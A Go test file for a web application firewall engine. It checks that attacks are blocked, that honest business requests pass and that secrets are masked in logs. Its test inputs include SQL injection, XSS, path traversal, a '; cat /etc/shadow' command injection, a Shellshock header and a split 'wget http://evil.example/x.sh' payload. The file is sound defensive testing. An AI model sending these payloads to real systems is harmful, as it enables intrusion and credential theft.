package waf

import (
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"testing"

	"edge/blocklog"
	"edge/rules"
)

var (
	shared   Engines
	redactor = blocklog.NewRedactor(nil)
)

func engine(t testing.TB, w rules.WAF) *Engine {
	t.Helper()
	e, err := shared.Get(w)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Release)
	return e
}

var paranoia1 = defaults()

// defaults is the WAF of an app without rules files.
func defaults() rules.WAF {
	set, err := rules.Load(nil)
	if err != nil {
		panic(err)
	}
	return set.WAF
}

// get is an ordinary browser's request.
func get(target string) Request {
	return Request{
		ID: "test", Client: netip.MustParseAddrPort("203.0.113.7:4711"), ServerName: "hr.test", Host: "hr.test",
		Request: rules.Request{Method: "GET"}, Target: target, Proto: "HTTP/1.1",
		Header: http.Header{"User-Agent": {"Mozilla/5.0"}, "Accept": {"*/*"}},
	}
}

func post(kind string) Request {
	r := get("/")
	r.Method = "POST"
	r.Header.Set("Content-Type", kind)
	r.Header.Set("Content-Length", "1")
	return r
}

func judge(t *testing.T, e *Engine, r Request, body string) (*Interruption, []blocklog.Match) {
	t.Helper()
	tx := e.Begin(r)
	defer func() {
		if err := tx.Close(); err != nil {
			t.Error(err)
		}
	}()
	it := tx.RequestHeaders()
	var err error
	if it == nil {
		it, err = tx.RequestBody(strings.NewReader(body), int64(len(body)))
	}
	if err != nil {
		t.Fatal(err)
	}
	matches, _ := tx.Matches(redactor)
	return it, matches
}

// Each rule of base.conf that acts on a parser's doubt does act, by itself, and
// says so.
func TestBaseRules(t *testing.T) {
	e := engine(t, paranoia1)
	for _, d := range doubts() {
		t.Run(d.name, func(t *testing.T) {
			r := get(d.target)
			if d.kind != "" {
				r = post(d.kind)
				r.Target = d.target
			}
			it, matches := judge(t, e, r, d.body)
			if it == nil || it.RuleID != d.rule || it.Status != 400 || it.Score {
				t.Fatalf("interruption %+v", it)
			}
			if len(matches) == 0 || matches[0].ID != fmt.Sprint(d.rule) || matches[0].Category != "edge-parser" {
				t.Errorf("matches %+v", matches)
			}
		})
	}
}

// An engine that lacks one of those rules is not used.
func TestSelfTest(t *testing.T) {
	p, err := newPolicy(paranoia1)
	if err != nil {
		t.Fatal(err)
	}
	p.directives += "SecRuleRemoveById 200003\n"
	if _, err := compile(p); err == nil || !strings.Contains(err.Error(), "self-test multipart: rule 200003 does not act") {
		t.Errorf("%v", err)
	}
}

func TestAttacks(t *testing.T) {
	e := engine(t, paranoia1)
	form, json := "application/x-www-form-urlencoded", "application/json"
	for _, c := range []struct {
		name, category, field string
		r                     Request
		body                  string
	}{
		{"sqli_in_query", "attack-sqli", "ARGS:q", get("/?q=1'%20OR%20'1'='1"), ""},
		{"xss_in_json", "attack-xss", "ARGS:json.a.0.b", post(json), `{"a":[{"b":"<script>alert(1)</script>"}]}`},
		{"traversal_in_form", "attack-lfi", "ARGS:f", post(form), "f=../../../../etc/passwd"},
		{"rce_in_form", "attack-rce", "ARGS:c", post(form), "c=;%20cat%20/etc/shadow"},
	} {
		t.Run(c.name, func(t *testing.T) {
			it, matches := judge(t, e, c.r, c.body)
			if it == nil || !it.Score || it.Status != 403 {
				t.Fatalf("interruption %+v", it)
			}
			for _, m := range matches {
				if m.Category == c.category && m.Field == c.field && m.Value != "" && m.Score > 0 {
					return
				}
			}
			t.Errorf("no %s in %s among %+v", c.category, c.field, matches)
		})
	}
}

// JSON is inspected as such even where its type does not say so.
func TestDisguisedJSON(t *testing.T) {
	e := engine(t, paranoia1)
	for _, kind := range []string{"text/plain", "application/csp-report", "application/reports+json"} {
		r := post(kind)
		r.JSON = kind == "text/plain"
		if it, matches := judge(t, e, r, `{"note":"1' OR '1'='1"}`); it == nil || matches[0].Field != "ARGS:json.note" {
			t.Errorf("%s: %+v", kind, matches)
		}
	}
}

// An attack in an attribute of an XML document is found as one in its text is.
func TestXMLAttributes(t *testing.T) {
	e := engine(t, paranoia1)
	for body, refused := range map[string]bool{
		`<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>`: true,
		`<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`:      true,
		`<a b="1' OR '1'='1"><c d="x"/></a>`:                  true,
		`<a b="O'Brien" c="50 %">text</a>`:                    false,
	} {
		if it, matches := judge(t, e, post("application/xml"), body); (it != nil) != refused {
			t.Errorf("%s: refused %v, %+v", body, it != nil, matches)
		}
	}
}

// A parameter of a content type does not change how the body is read.
func TestDisguisedLines(t *testing.T) {
	e := engine(t, paranoia1)
	if it, _ := judge(t, e, post("application/x-www-form-urlencoded; version=ndjson"), "q=1'\nOR\n'1'='1"); it == nil {
		t.Error("it passes")
	}
}

// Every rule of the rule set that can be the reason for a refusal is known to
// add points, whatever link of its chain adds them.
func TestScoresAreKnown(t *testing.T) {
	e := engine(t, paranoia1)
	for _, id := range []int{920170, 920340, 920420, 920450, 931130, 942130, 942100, 944110, 951110} {
		if e.scores[id].points == 0 {
			t.Errorf("rule %d adds no points", id)
		}
	}
	for _, id := range []int{901001, 949110, 959100, 980170, 200002} {
		if e.scores[id].points != 0 {
			t.Errorf("rule %d adds points", id)
		}
	}
	if len(e.scores) < 300 {
		t.Errorf("only %d rules add points", len(e.scores))
	}
}

// A rule that runs only to be detected is never given as the reason.
func TestDetectionOnly(t *testing.T) {
	w := paranoia1
	w.DetectionParanoia = 4
	_, matches := judge(t, engine(t, w), get("/?q=1'%20OR%20'1'='1"), "")
	if len(matches) < 2 || matches[0].ID != "942100" || matches[0].Score != 5 || matches[len(matches)-1].Score != 0 {
		t.Errorf("%+v", matches)
	}
}

// What honest clients of business applications send passes.
// An attack in pieces, under one name, is seen as the application would put it
// together. None of the pieces is one.
func TestPieces(t *testing.T) {
	e := engine(t, paranoia1)
	pieces := []string{"file=a;wget", "file=http://evil.example/x.sh"}
	for _, p := range pieces {
		if it, matches := judge(t, e, get("/?"+p), ""); it != nil {
			t.Fatalf("%s is an attack by itself: %+v", p, matches)
		}
	}
	whole := strings.Join(pieces, "&")
	if it, _ := judge(t, e, get("/?"+whole), ""); it == nil {
		t.Error("the query passes")
	}
	if it, _ := judge(t, e, post("application/x-www-form-urlencoded"), whole); it == nil {
		t.Error("the form passes")
	}
	if it, matches := judge(t, e, get("/?day=mon&day=tue&day=wed&tag=a&tag=b"), ""); it != nil {
		t.Errorf("an honest one: %+v", matches)
	}
}

func TestHonest(t *testing.T) {
	e := engine(t, paranoia1)
	for _, method := range paranoia1.Methods {
		r := get("/employees/7")
		r.Method = method
		if it, matches := judge(t, e, r, ""); it != nil {
			t.Errorf("%s: %+v", method, matches)
		}
	}
	for kind, body := range map[string]string{
		"application/json; charset=utf-8":                 `{"name":"Siobhán O'Brien","note":"50 % done, A&B 🎉"}`,
		"application/merge-patch+json":                    `{"name":null}`,
		"application/vnd.api+json":                        `{"data":[]}`,
		"application/x-www-form-urlencoded":               "name=Jos%C3%A9+N%C3%BA%C3%B1ez&return=%2Fhome%3Fa%3D1",
		"application/x-www-form-urlencoded;charset=utf-8": "a=1",
		"text/plain": "hello",
	} {
		if it, matches := judge(t, e, post(kind), body); it != nil {
			t.Errorf("%s: %+v %+v", kind, it, matches)
		}
	}
}

// An attack in one of two headers of the same name is found every time, in
// whichever it is.
func TestRepeatedHeader(t *testing.T) {
	e := engine(t, paranoia1)
	for i := range 400 {
		r := get("/")
		r.Header["X-Note"] = []string{"harmless", "() { :; }; /bin/cat /etc/passwd"}
		r.Header["Referer"] = []string{"https://hr.test/a", "https://hr.test/?a=<script>alert(1)</script>"}
		if i%2 == 1 {
			r.Header["Referer"][0], r.Header["Referer"][1] = r.Header["Referer"][1], r.Header["Referer"][0]
		}
		if it, _ := judge(t, e, r, ""); it == nil {
			t.Fatalf("missed at request %d", i)
		}
	}
}

// One engine serves everybody with the same policy, whatever their mode, and is
// gone with its last user.
func TestEnginesAreShared(t *testing.T) {
	var s Engines
	a, err := s.Get(paranoia1)
	if err != nil {
		t.Fatal(err)
	}
	detect := paranoia1
	detect.Mode = rules.Detect
	b, err := s.Get(detect)
	if err != nil {
		t.Fatal(err)
	}
	if a != b || s.Len() != 1 {
		t.Errorf("%d engines", s.Len())
	}
	a.Release()
	if it, _ := judge(t, b, get("/?q=<script>"), ""); it == nil {
		t.Error("the engine was closed under its other user")
	}
	b.Release()
	if s.Len() != 0 {
		t.Errorf("%d engines after the last release", s.Len())
	}
}

// Paranoia and thresholds do what they say.
func TestPolicy(t *testing.T) {
	strict, lenient := paranoia1, paranoia1
	strict.Paranoia, strict.DetectionParanoia = 4, 4
	lenient.Thresholds.Inbound = 100
	odd := get("/?q=a%20(b)%20%23c") // at 4 any of these characters is too many
	if it, _ := judge(t, engine(t, paranoia1), odd, ""); it != nil {
		t.Error("paranoia 1 refuses")
	}
	if it, _ := judge(t, engine(t, strict), odd, ""); it == nil {
		t.Error("paranoia 4 passes")
	}
	if it, matches := judge(t, engine(t, lenient), get("/?q=<script>alert(1)</script>"), ""); it != nil || len(matches) == 0 {
		t.Errorf("threshold 100: %+v, %d matches", it, len(matches))
	}
}

// A request that matches a thousand times is described by a few matches and a count.
func TestManyMatches(t *testing.T) {
	e := engine(t, paranoia1)
	var body strings.Builder
	for i := range 300 {
		fmt.Fprintf(&body, "a%d=<script>&", i)
	}
	tx := e.Begin(post("application/x-www-form-urlencoded"))
	defer tx.Close()
	if it := tx.RequestHeaders(); it != nil {
		t.Fatal(it)
	}
	if it, err := tx.RequestBody(strings.NewReader(body.String()), int64(body.Len())); it == nil || err != nil {
		t.Fatal(it, err)
	}
	if matches, omitted := tx.Matches(redactor); len(matches) != maxMatches || omitted < 280 {
		t.Errorf("%d matches, %d omitted", len(matches), omitted)
	}
}

// Secrets are masked wherever a rule finds something, and long values are cut
// around what was found.
func TestEvidence(t *testing.T) {
	e := engine(t, paranoia1)
	long := strings.Repeat("word ", 200) + "<script>alert(1)</script>" + strings.Repeat(" word", 200)
	r := post("application/x-www-form-urlencoded")
	r.Header.Set("Cookie", "theme=hush1<script>alert(1)</script>; hush4<script>alert(1)</script>")
	_, matches := judge(t, e, r, "password=hush2'%20OR%20'1'='1&blob=password%3Dhush3<script>&note="+long+`&{"password":"hush5<script>"}=1`)
	shown := false
	for _, m := range matches {
		if strings.Contains(m.Value+m.Matched+m.Field+m.Name, "hush") {
			t.Errorf("secret in %+v", m)
		}
		if m.ID == "941110" && m.Field == "ARGS:note" {
			shown = strings.HasPrefix(m.Value, "…") && strings.Contains(m.Value, "<script>") && len(m.Value) < 300 && m.Matched == "<script>"
		}
	}
	if !shown {
		t.Errorf("matches %+v", matches)
	}
}

func TestClientAddress(t *testing.T) {
	e := engine(t, paranoia1)
	for _, addr := range []string{"[2001:db8::1]:80", "[::ffff:192.0.2.1]:80", "[fe80::1%eth0]:80"} {
		r := get("/")
		r.Client = netip.MustParseAddrPort(addr)
		tx := e.Begin(r)
		got, err := netip.ParseAddr(tx.remoteAddr())
		if err != nil || got.Zone() != "" || got.Is4In6() {
			t.Errorf("%s: %q", addr, tx.remoteAddr())
		}
		if err := tx.Close(); err != nil {
			t.Error(err)
		}
	}
}

func BenchmarkBrowserGET(b *testing.B) {
	e := engine(b, paranoia1)
	r := get("/employees?page=2&sort=name")
	b.ReportAllocs()
	for b.Loop() {
		tx := e.Begin(r)
		if tx.RequestHeaders() != nil {
			b.Fatal("refused")
		}
		if it, err := tx.RequestBody(nil, 0); it != nil || err != nil {
			b.Fatal(it, err)
		}
		_ = tx.Close()
	}
}
